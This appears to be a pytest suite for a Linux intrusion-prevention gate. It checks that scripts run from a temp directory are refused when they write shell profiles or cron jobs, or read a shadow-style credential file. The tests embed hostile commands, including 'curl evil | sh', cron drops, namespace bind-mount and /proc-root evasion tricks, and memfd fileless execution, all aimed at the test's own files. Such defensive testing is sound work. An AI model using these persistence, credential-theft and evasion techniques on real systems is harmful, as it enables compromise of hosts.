"""Issue 15: the must-stop file acts of an untrusted tree refused at the open (compat
tier), not killed after.  The kernel's provenance map (bpf/lib/prov.h, set at exec,
inherited at fork, dropped at exit) read by the fanotify provenance gate.

Scope: the "temp dir" the provenance map names is the test's own ``drop`` directory;
the gate marks only the test's own "persistence" and "credential" files; the gate is
scoped to the test cgroup with a dead-man deadline.  Before the gate, every attack
below did its act (the compat tier killed after the syscall: docs/detection.md)."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from dataclasses import replace
from typing import Callable, Iterator

import pytest

from bastion import abi
from bastion.enforce.provgate import OVERFLOW_RULE, AgentGate, GateObject, ProvenanceGate
from bastion.events import HipsEvent
from bastion.kernel.libbpf import Map
from bastion.kernel.loader import ObjectSpec
from bastion.sensors.bpf import BpfSensor
from bastion.sensors.provenance import ProvenanceMap, default_interpreters
from support.cg import run_in, scoped_cgroup

DEADLINE_S = 90.0
TIMEOUT = 20


class Env:
    def __init__(self, root: Path, cg: Path, prov: ProvenanceMap, gate: ProvenanceGate) -> None:
        self.root, self.cg, self.prov, self.gate = root, cg, prov, gate
        self.drop = root / "drop"
        self.profile = root / "home" / ".bashrc"
        self.cron = root / "cron.d"
        self.secret = root / "creds" / "shadow"
        self.handoff: Map | None = None    # the sensor's prov_handoff (bpf/lib/prov.h)

    def run(self, argv: list[str], **kw: object) -> subprocess.CompletedProcess[str]:
        return run_in(self.cg, argv, timeout=TIMEOUT, **kw)

    def script(self, name: str, body: str, *, shebang: bool = False) -> Path:
        p = self.drop / name
        p.write_text(("#!/bin/sh\n" if shebang else "") + body)
        p.chmod(0o755)
        return p

    def events(self, n: int = 1, timeout_s: float = 3.0) -> list[HipsEvent]:
        out: list[HipsEvent] = []
        end = time.monotonic() + timeout_s
        while len(out) < n and time.monotonic() < end:
            out += self.gate.poll(0.1)
        return out


@pytest.fixture
def env() -> Iterator[Env]:
    # a short root: the prefixes of the provenance map are at most 63 bytes
    tmp_path = Path(tempfile.mkdtemp(prefix="bprov-"))
    try:
        yield from _env(tmp_path)
    finally:
        shutil.rmtree(tmp_path)


def _env(tmp_path: Path,
         shrink: Callable[[ObjectSpec], ObjectSpec] | None = None) -> Iterator[Env]:
    for d in ("drop", "home", "cron.d", "creds"):
        (tmp_path / d).mkdir()
    (tmp_path / "home" / ".bashrc").write_text("# profile\n")
    (tmp_path / "cron.d" / "job").write_text("# cron\n")
    (tmp_path / "creds" / "shadow").write_text("root:$6$secret:1:0:99999:7:::\n")
    with scoped_cgroup() as (cg, cgid):
        sensor = BpfSensor(cgroup_id=cgid, classes=("exec",), ring_bytes=1 << 20)
        if shrink is not None:
            spec = shrink(sensor.spec())
            sensor.spec = lambda: spec   # type: ignore[method-assign]
        sensor.open()
        try:
            prov = sensor.provenance()
            prov.set_dirs([str(tmp_path / "drop")])
            assert prov.set_interpreters(default_interpreters()) >= 1
            gate = ProvenanceGate(prov, scope_cgroup_id=cgid, deadline_s=DEADLINE_S,
                                  decision_timeout_s=0.5, self_tgid=os.getpid())
            try:
                gate.start()
                assert gate.apply([
                    GateObject(str(tmp_path / "home" / ".bashrc"), "persistence"),
                    GateObject(str(tmp_path / "cron.d"), "persistence"),
                    GateObject(str(tmp_path / "creds" / "shadow"), "credential"),
                    GateObject(str(tmp_path / "home"), "profile-dir"),
                ]) == []
                e = Env(tmp_path, cg, prov, gate)
                assert sensor._lo is not None
                e.handoff = sensor._lo.map("prov_handoff")
                yield e
            finally:
                gate.close()
        finally:
            sensor.close()


PROFILE = "# profile\n"


def test_tmp_script_appending_to_a_profile_as_its_last_step_is_refused(env: Env) -> None:
    p = env.script("payload.sh", f"echo 'curl evil | sh' >> {env.profile}\n")
    r = env.run(["/bin/sh", str(p)])
    assert r.returncode != 0
    assert "Operation not permitted" in r.stderr
    assert env.profile.read_text() == PROFILE
    evs = env.events()
    assert [(e.action, e.op, e.path, e.enforced) for e in evs] == [
        ("deny", "open-write", str(env.profile), True)]
    (d,) = env.gate.decisions()
    assert d.reasons == ("tmp-script",) and d.prevented.startswith("write to persistence object")


def test_tmp_script_reading_a_credential_store_gets_eperm(env: Env) -> None:
    p = env.script("hunt.sh", f"cat {env.secret}\n")
    r = env.run(["/bin/bash", str(p)])
    assert r.returncode != 0 and "secret" not in r.stdout
    assert "Operation not permitted" in r.stderr
    evs = env.events()
    assert [(e.action, e.op, e.path) for e in evs] == [("deny", "open-read", str(env.secret))]


def test_shebang_script_run_by_path_and_a_cron_drop_are_refused(env: Env) -> None:
    p = env.script("drop.sh", f"echo '* * * * * root sh /tmp/x' > {env.cron}/evil\n",
                   shebang=True)
    r = env.run([str(p)])
    assert r.returncode != 0
    # O_CREAT in a marked directory: refused at the open, the empty file stays (fanotify
    # decides opens, not creates: docs/threat-model.md); nothing was written into it
    if (env.cron / "evil").exists():
        assert (env.cron / "evil").read_text() == ""
    assert any(e.action == "deny" and e.path == str(env.cron / "evil") for e in env.events())


def test_a_cron_drop_through_a_bind_mount_in_another_mount_namespace_is_refused(
        env: Env) -> None:
    """s18-gate: a tainted root process binds the cron dir elsewhere in a mount namespace
    of its own and writes there.  The event fd's path names the bind mount, which the
    agent's namespace does not have: the gate could not place the object and allowed
    the write (the cron job landed).  Placed now in the opener's root."""
    other = env.root / "bind"
    p = env.script("nsdrop.sh",
                   f"unshare -m sh -c 'mkdir -p {other} && mount --bind {env.cron} {other} "
                   f"&& echo \"* * * * * root sh /tmp/x\" > {other}/evil'\n")
    r = env.run(["/bin/sh", str(p)])
    assert "Operation not permitted" in r.stderr, (r.returncode, r.stderr)
    assert (env.cron / "evil").read_text() == ""     # created by O_CREAT, never written
    assert not os.path.ismount(other)                # the bind lived in its namespace only
    (d,) = [d for d in env.gate.decisions() if d.action == "deny"]
    assert d.kind == "persistence" and d.reasons == ("tmp-script",)
    assert d.path == f"{other}/evil" and d.obj == _key(env.cron / "evil")
    assert env.gate.unplaced == 0


def test_a_write_through_another_namespaces_bind_mount_by_its_proc_root_is_refused(
        env: Env) -> None:
    """s18-gate: the same bind in a helper's mount namespace, written through
    ``/proc/<helper>/root/...`` by a tainted process of this one: the object is printed
    from the helper's namespace, neither the agent's nor the opener's root places it.
    Not placed: a tainted write is refused (failed closed); s18-fixgate (review #1): a
    read too, the filesystem holding a credential object (the shadow file here): an
    unplaced read of a credential dir's child was allowed as 'persistence'."""
    other, ready = env.root / "bind2", env.root / "ready"
    pidf = env.root / "helper.pid"
    p = env.script("procroot.sh",
                   f"unshare -m sh -c 'echo $$ > {pidf} && mkdir -p {other} && "
                   f"mount --bind {env.cron} {other} && touch {ready} && exec sleep 3' &\n"
                   f"while [ ! -e {ready} ]; do sleep 0.02; done\n"
                   f"cat /proc/$(cat {pidf})/root{other}/job\n"
                   f"echo '* * * * * root sh /tmp/x' > /proc/$(cat {pidf})/root{other}/evil\n"
                   f"kill $(cat {pidf})\n")
    r = env.run(["/bin/sh", str(p)])
    assert r.stderr.count("Operation not permitted") == 2, (r.returncode, r.stderr)
    assert r.stdout == ""                           # the read: refused (s18-fixgate)
    assert (env.cron / "evil").read_text() == ""
    denied = [d for d in env.gate.decisions() if d.action == "deny"]
    assert sorted(d.op for d in denied) == ["open-read", "open-write"], denied
    for d in denied:   # a name not in the dentry cache reads "could not check" too
        assert d.kind == "credential", d.kind
        assert d.placed.startswith("not placed: no root of the opener names it") and \
            d.placed.endswith("; a credential object is on its filesystem"), d.placed
    assert [d.prevented.split(" a marked")[0] for d in sorted(denied, key=lambda d: d.op)] \
        == ["read of", "write to"]
    assert env.gate.unplaced >= 2


def test_a_credential_store_made_again_on_its_old_inode_number_is_marked_again(
        env: Env) -> None:
    """s18-gate: marks were recorded by (dev, ino); a store deleted and written again
    (ext4 hands the freed number straight back) kept its record, lost its mark with the
    old inode, and the next pass skipped it as marked: read freely ever after."""
    old = _key(env.secret)
    env.secret.unlink()
    # ext4 gives a new file the lowest free number of the group: the freed one, unless
    # lower ones were freed too (s25 CI-H: another file's, once the journal committed
    # it).  Those are taken by placeholders until the freed number comes back; the new
    # store is then renamed into place (a new inode on the old number, as a rewrite).
    held: list[Path] = []
    try:
        for i in range(500):
            new = env.secret.with_name(f".new{i}")
            new.write_text("root:$6$new:1:0:99999:7:::\n")
            if _key(new) == old:
                new.rename(env.secret)
                break
            held.append(new)
        else:
            pytest.skip("this filesystem gave 500 new files other inode numbers")
    finally:
        for h in held:
            h.unlink()
    assert env.gate.apply([
        GateObject(str(env.profile), "persistence"), GateObject(str(env.cron), "persistence"),
        GateObject(str(env.secret), "credential"),
        GateObject(str(env.profile.parent), "profile-dir")]) == []
    assert env.gate.remarked == 1
    r = env.run(["/bin/sh", str(env.script("reread.sh", f"cat {env.secret}\n"))])
    assert "Operation not permitted" in r.stderr and "new" not in r.stdout, r.stdout
    assert [(e.action, e.path) for e in env.events()] == [("deny", str(env.secret))]


def test_a_cron_job_bind_mounted_over_a_history_is_not_appended_as_a_log(env: Env) -> None:
    """s18-gate: a file bind mount names the object by another directory's name: placed
    by its path, a cron job mounted over ``~/.bash_history`` was a log (appending is a
    log's use: allowed).  The name above a file mount is not the object's directory:
    not placed, the tainted write refused."""
    hist = env.profile.parent / ".bash_history"
    hist.write_text("")
    job = env.cron / "job"
    p = env.script("bindhist.sh", f"unshare -m sh -c 'mount --bind {job} {hist} && "
                                  f"echo \"* * * * * root sh /tmp/x\" >> {hist}'\n")
    r = env.run(["/bin/sh", str(p)])
    assert "Operation not permitted" in r.stderr, (r.returncode, r.stderr)
    assert job.read_text() == "# cron\n" and hist.read_text() == ""
    (d,) = [d for d in env.gate.decisions() if d.action == "deny"]
    assert d.obj == _key(job) and d.op == "open-write"


def _key(p: Path) -> tuple[int, int]:
    from bastion.policy.compile import kernel_dev
    st = os.stat(p)
    return kernel_dev(st.st_dev), st.st_ino


def test_a_fork_chain_inherits(env: Env) -> None:
    p = env.script("chain.sh", "sh -c \"(sleep 0.1; echo x >> " + str(env.profile)
                   + ") & wait\"\n")
    r = env.run(["/bin/sh", str(p)])
    assert "Operation not permitted" in r.stderr
    assert env.profile.read_text() == PROFILE
    assert [e.action for e in env.events()] == ["deny"]


def test_an_admin_non_interactive_shell_is_allowed(env: Env) -> None:
    r = env.run(["/bin/sh", "-c", f"echo admin >> {env.profile}; cat {env.secret}"])
    assert r.returncode == 0, r.stderr
    assert env.profile.read_text() == PROFILE + "admin\n" and "secret" in r.stdout
    assert env.events(timeout_s=0.5) == []


def test_a_trusted_tool_by_inode_is_allowed_and_a_renamed_copy_in_tmp_is_not(env: Env) -> None:
    tee = shutil.which("tee")
    assert tee
    r = env.run(["/bin/sh", "-c", f"echo ok | {tee} -a {env.profile}"])
    assert r.returncode == 0 and env.profile.read_text() == PROFILE + "ok\n"
    fake = env.drop / "crontab"       # a trusted tool's name, the dropper's copy
    shutil.copy2(tee, fake)
    r = env.run(["/bin/sh", "-c", f"echo evil | {fake} -a {env.profile}"])
    assert r.returncode != 0 and env.profile.read_text() == PROFILE + "ok\n"
    (d,) = [d for d in env.gate.decisions() if d.action == "deny"]
    assert d.reasons == ("tmp-binary",)
    # the real tool run by a /tmp script is the script's tree: refused too (chosen)
    p = env.script("viatool.sh", f"echo evil | {tee} -a {env.profile}\n")
    r = env.run(["/bin/sh", str(p)])
    assert r.returncode != 0 and env.profile.read_text() == PROFILE + "ok\n"


def test_reads_of_a_persistence_object_stay_allowed(env: Env) -> None:
    p = env.script("reader.sh", f"cat {env.profile}\n")
    r = env.run(["/bin/sh", str(p)])
    assert r.returncode == 0 and r.stdout == PROFILE


def _spawn_waiting(env: Env, script: Path) -> subprocess.Popen[str]:
    """A shell in the test cgroup that runs ``script`` once told to (stdin line)."""
    shell = f'echo $$ > {env.cg}/cgroup.procs && read go && /bin/sh {script}'
    return subprocess.Popen(["/bin/sh", "-c", shell], stdin=subprocess.PIPE, text=True,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)


def _start_ns(pid: int) -> int:
    from bastion.kernel.opener import stat_ppid_start
    return stat_ppid_start(pid)[1]


@pytest.mark.parametrize("extra,allowed", [(0, True), (abi.PROV_NETWORK_BINARY, False)])
def test_the_admin_session_bit_exempts_only_local_reasons(env: Env, extra: int,
                                                          allowed: bool) -> None:
    p = env.script("mine.sh", f"echo by-hand >> {env.profile}\n")
    proc = _spawn_waiting(env, p)
    try:
        time.sleep(0.2)
        assert env.prov.add(proc.pid, _start_ns(proc.pid), abi.PROV_ADMIN_TTY | extra)
        out, err = proc.communicate("go\n", timeout=TIMEOUT)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert (env.profile.read_text() == PROFILE + "by-hand\n") is allowed, err
    evs = env.events()
    assert [e.action for e in evs] == (["audit"] if allowed else ["deny"])


def test_a_reason_filled_from_user_space_applies_to_the_next_open(env: Env) -> None:
    """network-binary/network-service/decoded-payload come from the agent: the map
    entry it writes is read by the very next decision (the race is the agent's lag)."""
    p = env.script("later.sh", "true\n")   # only to have a script; the shell is clean
    proc = subprocess.Popen(["/bin/sh", "-c", f'echo $$ > {env.cg}/cgroup.procs && read go '
                             f'&& echo fetched >> {env.profile}'],
                            stdin=subprocess.PIPE, text=True, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE)
    try:
        time.sleep(0.2)
        assert env.prov.get(proc.pid) is None
        assert env.prov.add(proc.pid, _start_ns(proc.pid), abi.PROV_DECODED_PAYLOAD)
        _out, err = proc.communicate("go\n", timeout=TIMEOUT)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert p.exists() and "Operation not permitted" in err
    assert env.profile.read_text() == PROFILE


def test_the_entry_lives_as_long_as_the_process(env: Env) -> None:
    p = env.script("pid.sh", "echo $$; read go\n")
    proc = subprocess.Popen(["/bin/sh", "-c", f'echo $$ > {env.cg}/cgroup.procs && exec /bin/sh {p}'],
                            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert proc.stdout is not None
        pid = int(proc.stdout.readline())
        val = env.prov.get(pid)
        assert val is not None and val.reasons == abi.PROV_TMP_SCRIPT
        assert val.origin_tgid == pid and val.start_ns > 0
        proc.communicate("go\n", timeout=TIMEOUT)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert env.prov.get(pid) is None     # dropped at exit: a reused pid inherits nothing


def test_a_new_profile_in_a_home_directory_is_refused_other_files_are_not(env: Env) -> None:
    home = env.profile.parent
    p = env.script("newprof.sh", f"echo evil > {home}/.bash_profile; echo notes > {home}/notes\n")
    r = env.run(["/bin/sh", str(p)])
    assert "Operation not permitted" in r.stderr
    assert (home / ".bash_profile").read_text() == ""   # created by O_CREAT, never written
    assert (home / "notes").read_text() == "notes\n"
    assert [(e.action, e.path) for e in env.events()] == [("deny", str(home / ".bash_profile"))]


def test_a_binary_too_deep_to_name_in_full_is_still_placed_by_inode(env: Env) -> None:
    """The exe's path is cut past 256 bytes (the string prefix is lost): the dentry
    walk to the temp dir's inode still finds it."""
    tee = shutil.which("tee")
    assert tee
    deep = env.drop
    for i in range(12):
        deep = deep / (f"d{i}" + "x" * 28)
    deep.mkdir(parents=True)
    fake = deep / "helper"
    shutil.copy2(tee, fake)
    assert len(str(fake)) > 256
    r = env.run(["/bin/sh", "-c", f"echo evil | {fake} -a {env.profile}"])
    assert r.returncode != 0 and env.profile.read_text() == PROFILE
    (d,) = env.gate.decisions()
    assert d.reasons == ("tmp-binary",)


def test_the_agent_part_reports_a_deny_finding_with_what_was_prevented() -> None:
    """AgentGate as the agent runs it: the sensor's maps, the policy's temp dirs, the
    marks, and each refusal an enforcement finding (action deny, prevented, reasons)."""
    from bastion.enforce.provgate import GATE_RULE, AgentGate

    root = Path(tempfile.mkdtemp(prefix="bprov-"))
    try:
        (root / "drop").mkdir()
        (root / "etc").mkdir()
        shadow = root / "etc" / "shadow"
        shadow.write_text("root:$6$x:1::::::\n")
        script = root / "drop" / "p.sh"
        script.write_text(f"cat {shadow}\n")
        with scoped_cgroup() as (cg, cgid):
            sensor = BpfSensor(cgroup_id=cgid, classes=("exec",), ring_bytes=1 << 20)
            sensor.open()
            mirrored: list[ProvenanceMap] = []
            part = AgentGate(sensor.provenance, self_tgid=os.getpid(), deadline_s=DEADLINE_S,
                             scope_cgroup_id=cgid, on_map=mirrored.append,
                             objects=lambda: [GateObject(str(shadow), "credential")],
                             tmp_dirs=[str(root / "drop")])
            try:
                part.open()
                assert mirrored and part.unmarked == []
                r = run_in(cg, ["/bin/sh", str(script)], timeout=TIMEOUT)
                assert "Operation not permitted" in r.stderr and "$6$" not in r.stdout
                evs: list[HipsEvent] = []
                end = time.monotonic() + 3
                while not evs and time.monotonic() < end:
                    evs = part.poll(0.1)
                    time.sleep(0.05)
                (ev,) = evs
                f = part.finding(ev)
                assert f is not None and f.rule == GATE_RULE and f.action == "deny"
                assert f.severity == "critical" and f.enforced_by == "fanotify-provenance"
                assert f.evidence["prevented"] == f"read of credential store {shadow}"
                assert f.evidence["provenance"] == ["tmp-script"]
                assert part.finding(ev) is None     # reported once
            finally:
                part.close()
                sensor.close()
    finally:
        shutil.rmtree(root)


def test_dry_run_decides_reports_and_allows(env: Env) -> None:
    env.gate.dry_run = True
    p = env.script("dry.sh", f"echo watched >> {env.profile}\n")
    r = env.run(["/bin/sh", str(p)])
    assert r.returncode == 0 and env.profile.read_text() == PROFILE + "watched\n"
    (d,) = env.gate.decisions(timeout_s=3)
    f = env.gate.finding(d)
    assert (f.action, f.dry_run, f.severity) == ("would-deny", True, "critical")
    assert "would be refused" in f.title


def test_a_memfd_executable_is_fileless_and_refused(env: Env) -> None:
    tee = shutil.which("tee")
    assert tee
    code = ("import os, sys; fd = os.memfd_create('x', 0); "
            f"os.write(fd, open({tee!r}, 'rb').read()); "
            f"os.execve(fd, ['tee', '-a', {str(env.profile)!r}], {{}})")
    r = env.run([sys.executable, "-c", code], input="evil\n")
    assert r.returncode != 0 and env.profile.read_text() == PROFILE
    (d,) = env.gate.decisions(timeout_s=3)
    assert d.reasons == ("fileless",)


def test_a_tree_an_unprivileged_user_filled_does_not_turn_the_gate_off(tmp_path: Path) -> None:
    """An unprivileged user fills a credential directory they own (~/.ssh) with
    directories.  Before, the walk past max_dirs raised a ConfigError: the agent ran
    without its gate, for every tree on the host.  Now that tree is marked breadth
    first up to its share and named; root's objects are walked first and keep theirs."""
    root = Path(tempfile.mkdtemp(prefix="bprov-"))
    try:
        drop, cron, ssh = root / "drop", root / "cron.d", root / "ssh"
        drop.mkdir()
        deep = cron
        for i in range(5):
            deep = deep / f"d{i}"
        deep.mkdir(parents=True)
        ssh.mkdir()
        (ssh / "id_rsa").write_text("KEY\n")
        for i in range(60):
            (ssh / f"x{i}").mkdir()
        for p in [ssh, *ssh.rglob("*")]:
            os.chown(p, 65534, 65534)
        with scoped_cgroup() as (cg, cgid):
            sensor = BpfSensor(cgroup_id=cgid, classes=("exec",), ring_bytes=1 << 20)
            sensor.open()
            try:
                prov = sensor.provenance()
                prov.set_dirs([str(drop)])
                assert prov.set_interpreters(default_interpreters()) >= 1
                gate = ProvenanceGate(prov, scope_cgroup_id=cgid, deadline_s=DEADLINE_S,
                                      decision_timeout_s=0.5, self_tgid=os.getpid(),
                                      max_dirs=25, per_object_dirs=20)
                try:
                    gate.start()
                    # the user's tree first in the list: the budget must not go to it first
                    problems = gate.apply([GateObject(str(ssh), "credential"),
                                           GateObject(str(cron), "persistence")])
                    assert len(problems) == 1 and problems[0].startswith(f"{ssh}: more than 19")
                    assert gate.over_budget == problems
                    assert gate.stats()["over_budget"] == 1
                    s = drop / "p.sh"
                    s.write_text(f"echo evil > {deep}/job\n")
                    r = run_in(cg, ["/bin/sh", str(s)], timeout=TIMEOUT)
                    assert r.returncode != 0 and "Operation not permitted" in r.stderr, r
                    # refused at the open: an empty file may stay (fanotify decides opens)
                    assert not (deep / "job").exists() or (deep / "job").read_text() == ""
                    s.write_text(f"cat {ssh}/id_rsa\n")
                    r = run_in(cg, ["/bin/sh", str(s)], timeout=TIMEOUT)
                    assert r.returncode != 0 and "KEY" not in r.stdout, r
                finally:
                    gate.close()
            finally:
                sensor.close()
    finally:
        shutil.rmtree(root)
def _untracked(env: Env, body: str) -> subprocess.CompletedProcess[str]:
    """Run ``/bin/sh -c body`` in the test cgroup as a process whose entry the kernel
    could not make: the failure (no kernel memory for a task-storage entry, which a
    test cannot cause) written into ``prov_errors`` slot 0 and ``prov_lost`` as
    ``prov_lose`` writes it (bpf/lib/prov.h)."""
    from bastion.procstat import read_stat

    assert env.prov.lost is not None and env.prov.errors_map is not None
    go = env.root / "go"
    shell = (f'echo $$ > {env.cg}/cgroup.procs && while [ ! -e {go} ]; do sleep 0.02; done; '
             f'{body}')
    p = subprocess.Popen(["/bin/sh", "-c", shell], stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE, text=True)
    try:
        env.prov.errors_map.update((0).to_bytes(4, "little"), (1).to_bytes(8, "little"))
        env.prov.lost.update(p.pid.to_bytes(4, "little"),
                             read_stat(p.pid).start_ns.to_bytes(8, "little"))
        go.touch()
        out, err = p.communicate(timeout=TIMEOUT)
        return subprocess.CompletedProcess(p.args, p.returncode, out, err)
    finally:
        if p.poll() is None:
            p.kill()
            p.wait()


def test_a_process_the_kernel_could_not_track_fails_closed_with_its_children(env: Env) -> None:
    """A tainted process whose entry the kernel could not make (prov_lose) is kept in
    ``prov_lost``, its children too (prov_fork), and refused as ``untracked``; a clean
    process stays allowed; the failure is counted for the alert and status."""
    r = _untracked(env, f"echo evil >> {env.profile}; sh -c 'echo child >> {env.profile}'")
    assert env.profile.read_text() == PROFILE, "an untracked tainted tree wrote"
    assert r.stderr.count("Operation not permitted") == 2, r
    assert all(d.reasons == ("untracked",) for d in env.gate.decisions())
    # a process outside the lost tree: no entry, not lost: allowed as before
    r = env.run(["/bin/sh", "-c", f"echo ok >> {env.profile}"])
    assert r.returncode == 0 and env.profile.read_text() == PROFILE + "ok\n"
    assert env.gate.stats()["prov_errors"] >= 1
    # the agent's part: one high alert per growth, and the status line
    part = AgentGate(lambda: env.prov, self_tgid=os.getpid(), deadline_s=DEADLINE_S)
    part.gate = env.gate
    f = part.overflow_finding()
    assert f is not None and f.rule == OVERFLOW_RULE and f.severity == "high"
    assert f.evidence["failed_updates"] == env.prov.errors()
    assert part.overflow_finding() is None          # said once until it grows
    assert "refused on must-stop objects as untracked" in part.overflow_state()


def test_lost_tracking_itself_lost_fails_closed_for_every_untracked_process(env: Env) -> None:
    """Both the entries and the lost list failed (``prov_errors[1]``: 4,096 live
    processes the kernel had no memory for): no untracked process can be told apart,
    every one is refused on must-stop objects until the sensor is reloaded (said in
    status and the alert)."""
    _untracked(env, "true")
    assert env.prov.errors() >= 1 and env.prov.errors_map is not None
    env.prov.errors_map.update((1).to_bytes(4, "little"), (1).to_bytes(8, "little"))
    r = env.run(["/bin/sh", "-c", f"echo clean >> {env.profile}"])
    assert "Operation not permitted" in r.stderr and env.profile.read_text() == PROFILE
    assert [d.reasons for d in env.gate.decisions()] == [("untracked",)]


OLD_PROV, OLD_LOST, STORM = 3, 2, 8   # a storm of STORM > OLD_PROV + OLD_LOST tainted


def _old_capacity_small(spec: ObjectSpec) -> ObjectSpec:
    """The capacities of the tgid-keyed hash map of ABI 2.4 (65,536 + 4,096 lost), shrunk
    so a small storm fills them; a map without capacity (task storage) is left alone."""
    small = {"prov_lost": OLD_LOST}
    if hasattr(abi, "PROV_MAX"):       # `prov` is a hash map with a capacity
        small["prov"] = OLD_PROV
    return replace(spec, max_entries={**spec.max_entries, **small})


@pytest.fixture
def storm_env() -> Iterator[Env]:
    tmp_path = Path(tempfile.mkdtemp(prefix="bprov-"))
    try:
        yield from _env(tmp_path, shrink=_old_capacity_small)
    finally:
        shutil.rmtree(tmp_path)


def _unprivileged(cg: Path) -> Callable[[], None]:
    def enter() -> None:
        (cg / "cgroup.procs").write_text(str(os.getpid()))
        os.setgroups([])
        os.setgid(65534)
        os.setuid(65534)
    return enter


def test_a_tainted_process_storm_locks_no_one_out(storm_env: Env) -> None:
    """Attack (threat model "the lost list overflowing too ... a host-wide login
    lockout"): an unprivileged user's tree starts more tainted processes (a /tmp script
    each) than the provenance map and its lost list take.  Before (the tgid-keyed hash
    map, capacities shrunk to OLD_PROV + OLD_LOST): the lost list overflowed and every
    process without an entry -- sshd, unix_chkpwd -- was refused on must-stop objects.
    After (task-local storage: no capacity): an untainted reader of a credential object
    is allowed, a tainted one still refused, nothing counted as lost."""
    env = storm_env
    env.root.chmod(0o755)
    env.drop.chmod(0o755)
    hold = env.script("hold.sh", "exec sleep 60\n")
    holders = [subprocess.Popen(["/bin/sh", str(hold)], preexec_fn=_unprivileged(env.cg))
               for _ in range(STORM)]
    try:
        deadline = time.monotonic() + TIMEOUT
        while not all(Path(f"/proc/{h.pid}/cmdline").read_bytes().startswith(b"sleep")
                      for h in holders):
            assert time.monotonic() < deadline, "the storm did not start"
            time.sleep(0.02)
        assert all(h.poll() is None for h in holders)
        # the stand-in for sshd/unix_chkpwd: an untainted process reads the credential store
        r = env.run(["/bin/cat", str(env.secret)])
        assert r.returncode == 0 and "secret" in r.stdout, r
        # a tainted one is still refused
        p = env.script("hunt.sh", f"cat {env.secret}\n")
        r = env.run(["/bin/sh", str(p)])
        assert r.returncode != 0 and "secret" not in r.stdout, r
        assert [d.reasons for d in env.gate.decisions()] == [("tmp-script",)]
        assert env.prov.errors() == 0 and env.prov.lost_errors() == 0
    finally:
        for h in holders:
            h.kill()
            h.wait()


def _children(pid: int) -> list[int]:
    out = []
    for d in Path("/proc").iterdir():
        if d.name.isdigit():
            try:
                stat = (d / "stat").read_bytes()
            except OSError:
                continue
            if int(stat[stat.rfind(b")") + 2:].split()[1]) == pid:
                out.append(int(d.name))
    return out


def test_a_python_reason_reaches_the_children_forked_before_it(env: Env) -> None:
    """Attack: a process forks its worker first, then gains a reason only user space
    knows (here network-binary: the Provenance rule's publish), and the worker, already
    forked, does the must-stop act.  Before: the reason was written to the publishing
    tgid alone, the worker had no entry and wrote the profile.  After: the publisher
    writes the live descendants too (process table + /proc), so the worker is refused."""
    from bastion.procstat import read_stat
    from bastion.proctable import ProcessTable
    from bastion.sensors.provenance import publisher

    go = env.root / "go"
    shell = f'echo $$ > {env.cg}/cgroup.procs && exec "$@"'
    worker = (f"(while [ ! -e {go} ]; do sleep 0.02; done; echo evil >> {env.profile}) & "
              "wait")
    parent = subprocess.Popen(["/bin/sh", "-c", shell, "sh", "/bin/sh", "-c", worker],
                              stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + TIMEOUT
        while not _children(parent.pid):
            assert time.monotonic() < deadline, "the worker did not start"
            time.sleep(0.02)
        (child,) = _children(parent.pid)
        assert env.prov.get(parent.pid) is None and env.prov.get(child) is None
        procs = ProcessTable()
        procs.seed()
        publish = publisher(env.prov, procs.live_descendants)
        publish((parent.pid, read_stat(parent.pid).start_ns), "network-binary")
        go.touch()
        _, err = parent.communicate(timeout=TIMEOUT)
        assert env.profile.read_text() == PROFILE, "the worker forked before the reason wrote"
        assert "Operation not permitted" in err
        assert [d.reasons for d in env.gate.decisions()] == [("network-binary",)]
    finally:
        if parent.poll() is None:
            parent.kill()
            parent.wait()


def test_a_late_reason_reaches_the_image_a_thread_execs(env: Env) -> None:
    """Task storage lives in a task_struct: a thread that execs becomes the leader and
    the old leader's storage goes with the old leader.  Attack: a clean process starts a
    thread, gains a reason only user space knows (decoded-payload), and the thread execs
    the act.  Must be refused as before the move (the tgid-keyed entry stayed): the old
    leader hands its entry over at its exit in de_thread (prov_handoff)."""
    go = env.root / "go-thread"
    code = ("import os, threading, time\n"
            "def act():\n"
            f"    while not os.path.exists({str(go)!r}): time.sleep(0.02)\n"
            f"    os.execv('/bin/cat', ['cat', {str(env.secret)!r}])\n"
            "threading.Thread(target=act).start()\n"
            "time.sleep(60)\n")
    shell = f'echo $$ > {env.cg}/cgroup.procs && exec "$@"'
    p = subprocess.Popen(["/bin/sh", "-c", shell, "sh", sys.executable, "-c", code],
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + TIMEOUT
        while len(list(Path(f"/proc/{p.pid}/task").iterdir())) < 2:
            assert time.monotonic() < deadline, "the thread did not start"
            time.sleep(0.02)
        assert env.prov.get(p.pid) is None
        assert env.prov.add(p.pid, _start_ns(p.pid), abi.PROV_DECODED_PAYLOAD,
                            tolerance_ns=10_000_000)
        go.touch()
        out, err = p.communicate(timeout=TIMEOUT)
        assert p.returncode != 0 and "secret" not in out, (out, err)
        assert "Operation not permitted" in err
    finally:
        if p.poll() is None:
            p.kill()
            p.wait()


def test_a_reason_for_a_dead_process_never_reaches_the_holder_of_its_pid(env: Env) -> None:
    """The publisher writes a reason for (pid, start) of an event; by then the process
    may be gone and its pid taken by another.  Before (tgid keys): with no entry under
    the pid, nothing compared the start and the new holder got the reason (an innocent
    process refused; with the admin bit, a tainted one let through).  After: the pidfd
    is opened first and the start of its process compared, so the write reaches the
    process of that start or none."""
    p = subprocess.Popen(["sleep", "60"])
    try:
        start = _start_ns(p.pid)
        assert env.prov.get(p.pid) is None
        assert not env.prov.add(p.pid, start - 5_000_000_000, abi.PROV_NETWORK_BINARY)
        assert env.prov.get(p.pid) is None
        assert env.prov.add(p.pid, start, abi.PROV_NETWORK_BINARY, tolerance_ns=10_000_000)
        v = env.prov.get(p.pid)
        assert v is not None and v.reasons == abi.PROV_NETWORK_BINARY
    finally:
        p.kill()
        p.wait()
    assert env.prov.get(p.pid) is None          # gone with its task


def _waiting(env: Env, body: str) -> tuple[subprocess.Popen[str], Path]:
    """``/bin/sh -c body`` in the test cgroup, started and waiting for the go file."""
    go = env.root / "go-handoff"
